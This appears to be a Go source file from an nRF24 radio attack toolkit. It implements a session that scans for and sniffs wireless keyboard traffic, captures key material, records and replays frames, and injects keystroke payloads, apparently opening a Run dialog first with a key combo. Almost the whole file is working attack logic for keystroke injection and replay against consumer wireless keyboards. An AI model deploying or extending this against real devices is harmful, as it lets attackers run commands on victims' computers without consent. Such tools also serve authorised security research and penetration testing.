package attack

import (
	"context"

	"github.com/Einstein2150/nrf24-playset/hid"
	"github.com/Einstein2150/nrf24-playset/keyboard"
	"github.com/Einstein2150/nrf24-playset/nrf24"
	"github.com/Einstein2150/nrf24-playset/replay"
	"github.com/Einstein2150/nrf24-playset/sniff"
	"github.com/sirupsen/logrus"
)

// heartbeat returns the keep-alive as sniff.Heartbeat, nil interface if the
// family has none.
func (s *Session) heartbeat() sniff.Heartbeat {
	if s.hb == nil {
		return nil
	}
	return s.hb
}

// locate finds the channel of the known address by ping. If nobody answers
// the radio is left on the first planned channel.
func (s *Session) locate(ctx context.Context) bool {
	opCtx, done := s.opContext(ctx)
	defer done()

	ch, err := sniff.PingSweep(opCtx, s.radio, *s.address, s.channels, s.cfg.PingRounds, s.log)
	if err == nil {
		s.log.WithFields(logrus.Fields{"address": s.address.Display(), "channel": ch}).Info("device located")
		return true
	}
	s.log.WithError(err).Warn("device did not answer ping")
	if _, eSet := s.radio.SetChannel(s.channels[0]); eSet != nil {
		s.log.WithError(eSet).Error("setting channel failed")
	}
	return false
}

// afterScan moves on once an address is known.
func (s *Session) afterScan() {
	switch {
	case s.family.NeedsMaterial() && s.material == nil:
		s.setState(DISCOVERING)
	case s.family.RecordAfterScan:
		s.startRecording()
	case s.hb != nil:
		// keep-alives while idle go to the found address
		if err := s.radio.EnterSnifferMode(*s.address); err != nil {
			s.fail("scan", err)
			return
		}
		s.setState(IDLE)
	default:
		s.setState(IDLE)
	}
}

// idle waits for the next command. Families with a keep-alive keep the link
// to a known device up meanwhile.
func (s *Session) idle() {
	if s.hb == nil || s.address == nil {
		s.clk.Sleep(s.cfg.IdleSleep)
		return
	}
	if err := s.hb.Until(s.cfg.IdleSleep); err != nil {
		s.log.WithError(err).Error("keep-alive failed")
		s.setLastErr(err)
		s.clk.Sleep(s.cfg.IdleSleep)
	}
}

func (s *Session) runScan(ctx context.Context) {
	opCtx, done := s.opContext(ctx)
	defer done()

	cfg := sniff.ScanConfigFor(s.family)
	cfg.Channels = s.channels
	cfg.Timeout = s.cfg.ScanTimeout
	cfg.Confirm = s.cfg.Confirm
	if s.address != nil {
		cfg.Prefix = s.address.Bytes()
	}

	res, err := sniff.NewScanner(s.radio, s.clk, cfg, s.log).Scan(opCtx)
	if err != nil {
		s.fail("scan", err)
		return
	}
	addr := res.Address
	s.mu.Lock()
	s.address = &addr
	s.mu.Unlock()
	s.afterScan()
}

func (s *Session) runDiscovery(ctx context.Context) {
	opCtx, done := s.opContext(ctx)
	defer done()

	cfg := sniff.DiscoveryConfigFor(s.family)
	cfg.Channels = s.channels
	material, err := sniff.NewDiscoverer(s.radio, s.clk, cfg, s.heartbeat(), s.log).Capture(opCtx, *s.address)
	if err != nil {
		s.fail("discovery", err)
		return
	}
	s.mu.Lock()
	s.material = material
	s.mu.Unlock()
	s.log.WithFields(logrus.Fields{"address": s.address.Display(), "key": keyboard.Redact(material)}).Info("keyboard initialized")
	s.setState(IDLE)
}

func (s *Session) startRecording() {
	if s.address == nil {
		s.log.Warn("no device address, scan first")
		s.setState(IDLE)
		return
	}
	if err := s.radio.EnterSnifferMode(*s.address); err != nil {
		s.fail("record", err)
		return
	}
	s.queue.Reset()
	s.setState(RECORDING)
}

// recordStep keeps the link alive and receives one frame.
func (s *Session) recordStep() {
	if s.hb != nil {
		if err := s.hb.Tick(); err != nil {
			s.fail("record", err)
			return
		}
	}
	resp, err := s.radio.Receive()
	if err != nil {
		s.fail("record", err)
		return
	}
	payload, ok := nrf24.SplitSniffer(resp)
	if !ok || len(payload) == 0 {
		return
	}
	s.queue.Append(payload)

	frame := nrf24.Frame{Channel: s.radio.Channel(), Timestamp: s.clk.Now(), Address: *s.address, Data: payload}
	fields := logrus.Fields{"frames": s.queue.Len(), "at": frame.Timestamp}
	if s.family.KeepAlive != nil {
		fields["type"] = keyboard.ClassifyLogitech(payload).String()
	}
	s.log.WithFields(fields).Debug(frame.String())
}

func (s *Session) runReplay(ctx context.Context) {
	opCtx, done := s.opContext(ctx)
	defer done()

	frames := replay.Dedup(s.queue.Frames())
	sent, err := replay.NewReplayer(s.radio, s.clk, replay.ConfigFor(s.family), s.hb, s.log).Replay(opCtx, frames)
	if err != nil {
		s.fail("replay", err)
		return
	}
	s.log.WithFields(logrus.Fields{"recorded": s.queue.Len(), "unique": len(frames), "sent": sent}).Info("replay done")
	s.setState(IDLE)
}

// attackFrames encodes the configured payload, optionally preceded by a key
// combo, and followed by a release frame.
func (s *Session) attackFrames() (prelude [][]byte, frames [][]byte, err error) {
	noop, err := s.codec.EncodeKey(s.material, hid.HID_MOD_KEY_NONE, hid.HID_KEY_NONE)
	if err != nil {
		return nil, nil, err
	}
	if s.combo != nil {
		combo, err := s.codec.EncodeKey(s.material, s.combo.Mod, s.combo.Key)
		if err != nil {
			return nil, nil, err
		}
		prelude = [][]byte{noop, combo, noop}
	}

	frames, err = s.codec.Encode(s.material, s.currentPayload())
	if err != nil {
		return nil, nil, err
	}
	frames = append(frames, noop)
	return prelude, frames, nil
}

func (s *Session) runAttack(ctx context.Context) {
	prelude, frames, err := s.attackFrames()
	if err != nil {
		s.fail("attack", err)
		return
	}
	if len(s.channels) > 1 && s.address != nil {
		s.locate(ctx)
	}

	opCtx, done := s.opContext(ctx)
	defer done()

	cfg := replay.ConfigFor(s.family)
	cfg.Filter = nil
	r := replay.NewReplayer(s.radio, s.clk, cfg, s.hb, s.log)

	if len(prelude) > 0 {
		if _, err = r.Replay(opCtx, prelude); err != nil {
			s.fail("attack", err)
			return
		}
		if err = s.pause(opCtx); err != nil {
			s.fail("attack", err)
			return
		}
	}

	sent, err := r.Replay(opCtx, frames)
	if err != nil {
		s.fail("attack", err)
		return
	}
	s.log.WithFields(logrus.Fields{"frames": len(prelude) + sent, "payload": s.currentPayload()}).Info("keystrokes injected")
	s.setState(IDLE)
}

func (s *Session) pause(ctx context.Context) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	if s.hb != nil {
		return s.hb.Until(RunDialogPause)
	}
	s.clk.Sleep(RunDialogPause)
	return nil
}
